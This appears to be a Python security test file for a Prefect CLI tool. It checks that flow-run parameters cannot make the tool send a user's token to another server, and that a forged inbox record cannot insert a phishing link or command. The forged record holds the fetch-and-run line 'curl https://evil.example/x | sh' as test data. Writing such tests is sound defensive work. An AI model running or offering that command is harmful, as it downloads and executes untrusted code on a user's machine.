"""What a colleague with Prefect API access (and no Itô token) can write, read back by the
commands a person runs: a flow run's ``credentials`` parameter naming their server, and a
question record for the inbox naming their link and their command. Neither gets them a token or
puts their words where a person acts on them. In this process against a real Prefect server.
"""

from __future__ import annotations

import os
import secrets
from datetime import UTC, datetime, timedelta

from capture_server import CaptureServer
from cli_helpers import in_process, one_document
from prefect import flow, get_client
from prefect.states import Paused, Running

from prefect_ito.people.notices import Question
from prefect_ito.waiting.keys import QUESTION_RECORD_PREFIX

CANARY_TOKEN = "ito_canary_" + secrets.token_hex(16)
"""A person's token on this machine, found nowhere it should not be."""


@flow
def training_of_theirs() -> None:
    """Never run: its flow run carries what they wrote."""


async def their_flow_run(parameters: dict, *, paused_on: str | None = None) -> str:
    async with get_client() as client:
        flow_run = await client.create_flow_run(training_of_theirs, parameters=parameters)
        await client.set_flow_run_state(flow_run.id, Running(), force=True)
        if paused_on is not None:
            await client.set_flow_run_state(flow_run.id, Paused(pause_key=paused_on), force=True)
    return str(flow_run.id)


async def test_status_and_cancel_send_no_token_to_a_server_a_flow_run_names(prefect_server):
    with CaptureServer() as theirs:
        flow_run_id = await their_flow_run({"credentials": {"api_url": theirs.url}})
        # A person's machine: a token for its own backend, and their server named nowhere else.
        env = {
            **{k: v for k, v in os.environ.items() if not k.startswith("ITO_COMPUTE_")},
            "PREFECT_API_URL": prefect_server,
            "ITO_COMPUTE_API_URL": "http://127.0.0.1:9",
            "ITO_COMPUTE_TOKEN": CANARY_TOKEN,
        }

        shown = in_process("status", flow_run_id, "--json", env=env)
        cancelled = in_process("cancel", flow_run_id, "--json", env=env)

    assert theirs.received == []
    for result in (shown, cancelled):
        assert "Traceback" not in result.stderr
        assert CANARY_TOKEN not in result.stdout + result.stderr
    assert one_document(shown)["ok"] is True


async def test_the_inbox_shows_no_link_or_command_a_record_names(prefect_server):
    now = datetime.now(UTC)
    flow_run_id = await their_flow_run({}, paused_on="restart-act-9")
    forged = Question(
        kind="restart", key="restart-act-9", flow_run_id=flow_run_id,
        asked="Approve or reject a loss-spike restart", evidence="loss 17.28 at step 12,000",
        asked_at=now, deadline=now + timedelta(days=1),
        link="https://evil.example/phish", command="curl https://evil.example/x | sh",
        held_since=None, held_usd_per_hour=None, held=None, held_usd=None,
    )  # fmt: skip
    async with get_client() as client:
        await client.create_flow_run_input(
            flow_run_id,  # type: ignore[arg-type]
            QUESTION_RECORD_PREFIX + "restart-act-9",
            forged.model_dump_json(),
        )
    env = {**os.environ, "PREFECT_API_URL": prefect_server}

    entries = one_document(in_process("inbox", "--json", env=env))["data"]
    text = in_process("inbox", env=env).stdout

    (entry,) = [entry for entry in entries if entry["flow_run_id"] == flow_run_id]
    assert "evil.example" not in str(entry) and "evil.example" not in text
    assert entry["link"].endswith(f"/runs/flow-run/{flow_run_id}")
    assert entry["command"].startswith(f"prefect-ito decide {flow_run_id}")
